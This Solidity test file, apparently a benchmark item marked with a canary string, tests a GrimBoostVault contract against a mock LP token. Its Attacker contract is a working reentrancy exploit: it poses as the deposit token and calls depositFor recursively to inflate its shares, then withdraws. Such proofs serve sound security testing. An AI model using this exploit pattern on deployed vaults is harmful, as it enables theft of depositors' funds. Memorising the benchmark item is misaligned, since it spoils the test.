// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "./GrimBoostVault.sol";

// assay-canary-8785989d-9f57-496f-bf4a-22d13643210f

interface Vm {
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes4 reason) external;
}

contract SpiritLp is IERC20 {
    address private minter = msg.sender;
    bool public silent;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 v) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += v;
    }

    function quieten() external {
        require(msg.sender == minter, "minter only");
        silent = true;
    }

    function approve(address spender, uint256 v) external {
        allowance[msg.sender][spender] = v;
    }

    function transfer(address to, uint256 v) external returns (bool) {
        if (silent) return false;
        balanceOf[msg.sender] -= v;
        balanceOf[to] += v;
        return true;
    }

    function transferFrom(address from, address to, uint256 v) external returns (bool) {
        if (silent) return false;
        allowance[from][msg.sender] -= v;
        balanceOf[from] -= v;
        balanceOf[to] += v;
        return true;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant ANA = address(0xA9A);
    address internal constant BEN = address(0xBE9);

    SpiritLp internal lp;
    GrimBoostVault internal vault;
    Attacker internal thief;

    function setUp() public {
        lp = new SpiritLp();
        vault = new GrimBoostVault(lp);
        give(ANA, 2_000e18);
        give(BEN, 2_000e18);
        vm.prank(ANA);
        vault.deposit(1_000e18);
        thief = new Attacker(vault, lp);
        lp.mint(address(thief), 1_000e18);
    }

    function give(address who, uint256 v) internal {
        lp.mint(who, v);
        vm.prank(who);
        lp.approve(address(vault), type(uint256).max);
    }

    function test_Regular() public {
        vm.prank(BEN);
        vault.depositFor(address(lp), 500e18, ANA);
        require(vault.balanceOf(ANA) == 1_500e18 - 1000, "for another");
        vault.boost(900e18);
        require(vault.balance() == 1_500e18 && vault.boosted() == 900e18, "boosted");
        lp.mint(address(vault), 150e18);
        vm.prank(BEN);
        vault.deposit(110e18);
        require(vault.balanceOf(BEN) == 100e18, "a share is worth more");
        lp.approve(address(vault), type(uint256).max);
        vault.unboost(900e18);
        vm.prank(BEN);
        vault.withdraw(100e18);
        require(lp.balanceOf(BEN) == 1_500e18 && vault.totalSupply() == 1_500e18, "out");

        // the least first deposit, and tokens sent to the vault: the next depositor keeps its own
        GrimBoostVault fresh = new GrimBoostVault(lp);
        uint256 least = fresh.KEPT() + 1;
        lp.mint(address(this), least);
        lp.approve(address(fresh), least);
        fresh.deposit(least);
        lp.mint(address(fresh), 1_000e18);
        vm.startPrank(BEN);
        lp.approve(address(fresh), 1_000e18);
        fresh.deposit(1_000e18);
        fresh.withdraw(fresh.balanceOf(BEN));
        vm.stopPrank();
        require(lp.balanceOf(BEN) >= 1_499e18, "a deposit keeps its worth");
    }

    function test_Refuses() public {
        vm.startPrank(ANA);
        vm.expectRevert(GrimBoostVault.Denied.selector);
        vault.boost(1);
        vm.expectRevert(GrimBoostVault.Denied.selector);
        vault.unboost(0);
        vm.expectRevert(GrimBoostVault.Empty.selector);
        vault.deposit(0);
        vm.stopPrank();
        lp.quieten();
        vm.prank(ANA);
        vm.expectRevert(GrimBoostVault.Failed.selector);
        vault.deposit(1);
        vm.prank(ANA);
        vm.expectRevert(GrimBoostVault.Failed.selector);
        vault.withdraw(1);
        vm.expectRevert(GrimBoostVault.Failed.selector);
        vault.boost(1);
        vm.expectRevert(GrimBoostVault.Failed.selector);
        vault.unboost(0);
    }

    function exploit() public {
        thief.run();
    }

    function test_Exploit() public {
        uint256 before = lp.balanceOf(address(thief));
        exploit();
        require(lp.balanceOf(address(thief)) >= before + 700e18, "nothing gained");
    }

    function asset() public view returns (address) {
        return address(lp);
    }

    function target() public view returns (address) {
        return address(vault);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}

/// A token whose transfers are deposits, five deep.
contract Attacker {
    GrimBoostVault internal vault;
    SpiritLp internal lp;
    uint256 internal depth;

    constructor(GrimBoostVault vault_, SpiritLp lp_) {
        vault = vault_;
        lp = lp_;
    }

    function transferFrom(address, address, uint256) external returns (bool) {
        if (++depth < 5) vault.depositFor(address(this), 0, address(this));
        else vault.depositFor(address(lp), lp.balanceOf(address(this)), address(this));
        return true;
    }

    function run() external {
        lp.approve(address(vault), type(uint256).max);
        vault.depositFor(address(this), 0, address(this));
        vault.withdraw(vault.balanceOf(address(this)));
    }
}
